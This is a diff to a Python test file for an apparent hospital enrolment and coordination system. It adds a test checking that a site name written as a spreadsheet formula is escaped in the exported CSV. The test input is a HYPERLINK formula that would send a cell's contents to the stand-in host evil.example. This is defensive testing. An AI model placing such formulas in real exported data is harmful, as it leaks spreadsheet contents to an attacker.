@@ -1,5 +1,6 @@
 """A hospital that answers its enrolment with what it should not: it leaves out itself, and the run goes on with the others."""
 
+import csv
 import json
 from collections.abc import Callable, Iterable
 from pathlib import Path
@@ -12,7 +13,7 @@ from polyclinic.config import RunConfig
 from polyclinic.errors import PolyclinicError
 from polyclinic.messages import ENROL, FAILED, RECORD
 from polyclinic.server.app import coordinate
-from polyclinic.server.enrolment import enrol
+from polyclinic.server.enrolment import enrol, enrol_request
 from polyclinic.server.run_folder import RunFolder
 from tests.server.test_joining import KEYS, NAMES, Here, Hospitals, hospitals
 
@@ -81,7 +82,7 @@ LIES: dict[str, tuple[Callable[[Told], Told | RecordDict | str], str]] = {
 def enrolled(folder: Path, here: Here = lambda done: set(NAMES), group: str | None = None, **lie: Any) -> Any:
     grid = Lying(folder, RunConfig.build(KEYS), here)
     grid.group, grid.lie = group, lie.get("lie", dict)
-    return enrol(grid, "run", "", 1, 1.0, simulates=lie.get("simulates", True))
+    return enrol(grid, enrol_request("run", ""), 1, 1.0, simulates=lie.get("simulates", True))
 
 
 @pytest.mark.parametrize("name", LIES)
@@ -102,6 +103,18 @@ def test_nobody_answers_in_anothers_place(hospitals: Path, group: str) -> None:
 def test_alone_it_makes_no_simulation_where_the_runs_hospitals_are_real(hospitals: Path) -> None:
     with pytest.raises(PolyclinicError, match="No hospital could enrol: it says that it is simulated"):
         enrolled(hospitals, lambda done: {"north"}, lie=says(simulated=True, sites=3), simulates=False)
+
+
+def test_a_name_that_is_a_formula_is_text_in_the_table_for_people(hospitals: Path) -> None:
+    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    config = RunConfig.build(KEYS | {"out": str(hospitals / "runs"), "rounds": 1})
+    grid, folder = Lying(hospitals, config, lambda done: set(NAMES)), RunFolder.create(config)
+    grid.lie = says(site=name)
+    coordinate(grid, config, folder)
+    with (folder.path / "rounds.csv").open(newline="") as file:
+        cells = {row["site"] for row in csv.DictReader(file)}
+    assert f"'{name}" in cells and not any(cell.startswith("=") for cell in cells)
+    assert name in set(folder.rounds()["site"])
 
 
 @pytest.mark.parametrize("name", ["simulated", "a long name", "an error"])
